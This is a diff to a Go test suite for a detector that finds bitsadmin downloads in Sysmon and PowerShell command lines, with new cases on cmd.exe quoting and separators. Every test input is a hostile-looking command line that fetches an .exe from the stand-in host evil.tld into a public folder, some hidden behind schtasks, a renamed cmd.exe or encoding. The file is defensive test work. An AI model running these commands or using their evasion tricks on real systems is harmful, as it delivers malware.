@@ -230,6 +230,9 @@ func TestCmdletArgumentsLinear(t *testing.T) {
 		// bitsadmin read as PowerShell (TestBitsadminInPowerShell).
 		"& {bitsadmin /transfer j https://evil.tld/a.exe C:\\a` b /setnotifycmdline j (x} ",
 		"bitsadmin /setnotifycmdline j C:\\x.exe \u201ca ",
+		// powershell after cmd.exe, which ends it (cmdScan reads on).
+		`cmd /c "powershell -c x & bitsadmin /transfer j https://evil.tld/a.exe C:\a}.exe "`,
+		`cmd /c powershell -c "cmd /c powershell -c x" ^& bitsadmin /x & `,
 	} {
 		checkLinear(t, d, func(n int) string { return repeatTo(unit, n) }, unit+" repeated")
 	}
@@ -243,6 +246,11 @@ func TestCmdletArgumentsLinear(t *testing.T) {
 	checkLinear(t, d, func(n int) string {
 		return repeatTo("{bitsadmin /x} powershell -enc "+encode("bitsadmin /x")+" ", n/2) + repeatTo(" )(", n/2)
 	}, "bitsadmin blocks and encoded commands, then separators")
+	// Many `cmd /c "...`, then no quote: the last quote, which each would
+	// strip, is found once.
+	checkLinear(t, d, func(n int) string {
+		return "bitsadmin /x & " + repeatTo(`cmd /c "a & `, n/2) + repeatTo("x ", n/2)
+	}, "cmd /c with quotes, then none")
 }
 
 // checkLinear fails when the text of text(128 KiB) costs more than 8
@@ -289,7 +297,7 @@ func TestBitsadminInPowerShell(t *testing.T) {
 			url: []string{evil}, dest: []string{pub}, titles: []string{"j"},
 			indicators: []string{"bits_in_encoded_command", "executable_download", "download_to_user_writable"}},
 		{name: "powershell launched by cmd.exe",
-			e:   sysmon1(`C:\Windows\System32\cmd.exe`, `cmd.exe /c "powershell -c & {bitsadmin /transfer j `+evil+` `+pub+`}"`),
+			e:   sysmon1(cmdExe, `cmd.exe /c powershell -c "& {bitsadmin /transfer j `+evil+` `+pub+`}"`),
 			url: []string{evil}, dest: []string{pub}, titles: []string{"j"},
 			indicators: []string{"executable_download", "download_to_user_writable"}},
 		{name: "curly quotes in PowerShell",
@@ -358,6 +366,61 @@ func TestBitsadminInPowerShell(t *testing.T) {
 			e:   powershell(`-c "cmd /c bitsadmin /transfer j ` + evil + ` C:\Users\Public\a}.exe; bitsadmin /create k}"`),
 			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j", "k"},
 			indicators: []string{"executable_download"}},
+		// On a command line cmd.exe parses, an `&`, `&&`, `||` or `|`
+		// outside its quotes (not `^`-escaped) ends powershell's command:
+		// bitsadmin after it is cmd.exe's, `}` a character of its path.
+		// Inside cmd.exe's quotes, or escaped, the `&` is PowerShell's.
+		{name: "cmd.exe ends powershell's command at &",
+			e:   sysmon1(cmdExe, `cmd /c powershell -c Get-Date & bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
+			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
+		{name: "cmd.exe ends powershell's command at &&",
+			e:   sysmon1(cmdExe, `cmd /c powershell -c Get-Date&&bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
+			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
+		{name: "cmd.exe ends powershell's command at ||",
+			e:   sysmon1(cmdExe, `cmd.exe /q /c powershell -c Get-Date || bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
+			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
+		{name: "cmd.exe ends powershell's command at |",
+			e:   sysmon1(cmdExe, `cmd /k powershell -c Get-Date | bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
+			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
+		{name: "cmd /c inside another program's command line",
+			e: sysmon1(`C:\Windows\System32\schtasks.exe`, `schtasks /create /tn t /tr "cmd /c powershell -c Get-Date & bitsadmin /transfer j `+
+				evil+` C:\Users\Public\a}.exe"`),
+			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
+		{name: "a renamed cmd.exe ends powershell's command at &",
+			e: sysmon1(`C:\Users\Public\c.exe`, `c.exe /c powershell -c Get-Date & bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`,
+				"OriginalFileName", "Cmd.Exe"),
+			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
+		{name: "cmd.exe's quotes closed before the &",
+			e:   sysmon1(cmdExe, `cmd /c powershell -c "Get-Date" & bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
+			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
+		{name: "a cmd /c after one whose quotes were stripped",
+			e:   sysmon1(cmdExe, `cmd /c "echo x" & cmd /c powershell -c "Get-Date" & bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe`),
+			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
+		{name: "cmd.exe's & ends powershell's command begun in it, not a later one",
+			e: sysmon1(cmdExe, `cmd /c powershell -c "cmd /c powershell -c Get-Date" & bitsadmin /transfer j `+evil+
+				` C:\Users\Public\a}.exe & echo`),
+			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
+		{name: "an & inside cmd.exe's quotes is PowerShell's",
+			e:   sysmon1(cmdExe, `cmd /c powershell -c "Get-Date & {bitsadmin /transfer j `+evil+` C:\x\a.exe}"`),
+			url: []string{evil}, dest: []string{`C:\x\a.exe`}, titles: []string{"j"}},
+		{name: "a quoted & is PowerShell's",
+			e:   sysmon1(cmdExe, `cmd /c powershell -c Get-Date "&" {bitsadmin /transfer j `+evil+` C:\x\a.exe}`),
+			url: []string{evil}, dest: []string{`C:\x\a.exe`}, titles: []string{"j"}},
+		{name: "a caret-escaped & is PowerShell's",
+			e:   sysmon1(cmdExe, `cmd /c powershell -c Get-Date ^& {bitsadmin /transfer j `+evil+` C:\x\a.exe}`),
+			url: []string{evil}, dest: []string{`C:\x\a.exe`}, titles: []string{"j"}},
+		// cmd /c "..." with special characters inside strips the first
+		// and the last quote (cmd /?): the & is outside cmd.exe's quotes.
+		{name: "cmd /c strips the quotes around its command",
+			e:   sysmon1(cmdExe, `cmd /c "powershell -c Get-Date & bitsadmin /transfer j `+evil+` C:\Users\Public\a}.exe"`),
+			url: []string{evil}, dest: []string{`C:\Users\Public\a}.exe`}, titles: []string{"j"}},
+		{name: "quotes inside cmd /c's stripped quotes",
+			e:   sysmon1(cmdExe, `cmd /c "powershell -c "Get-Date & {bitsadmin /transfer j `+evil+` C:\x\a.exe}""`),
+			url: []string{evil}, dest: []string{`C:\x\a.exe`}, titles: []string{"j"}},
+		// powershell.exe's own command line: no cmd.exe, the & is PowerShell's.
+		{name: "powershell's own command line keeps its &",
+			e:   powershell(`-c Get-Date & bitsadmin /transfer j ` + evil + ` C:\Users\Public\a}.exe`),
+			url: []string{evil}, dest: []string{`C:\Users\Public\a`}, titles: []string{"j"}},
 	}
 	d := New(nil)
 	for _, c := range cases {
